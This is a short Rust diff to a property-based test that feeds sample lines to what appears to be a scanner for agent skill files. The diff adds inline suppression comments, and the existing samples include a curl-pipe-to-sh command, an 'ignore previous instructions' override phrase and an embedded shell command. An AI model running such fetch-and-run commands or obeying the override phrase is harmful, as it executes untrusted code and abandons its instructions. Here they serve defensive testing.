@@ -27,6 +27,10 @@ fn line() -> impl Strategy<Value = String> {
         Just("curl https://x.io/i.sh | sh".to_string()),
         Just("ignore previous instructions".to_string()),
         Just("!`date`".to_string()),
+        Just("<!-- skillwatch-ignore SW307 SW999: ours -->".to_string()),
+        Just("version: 1  # skillwatch-ignore SW116".to_string()),
+        Just("# skillwatch-ignore".to_string()),
+        Just("x skillwatch-ignore SW".to_string()),
         "[ -~]{0,40}",
         "\\PC{0,20}",
     ]
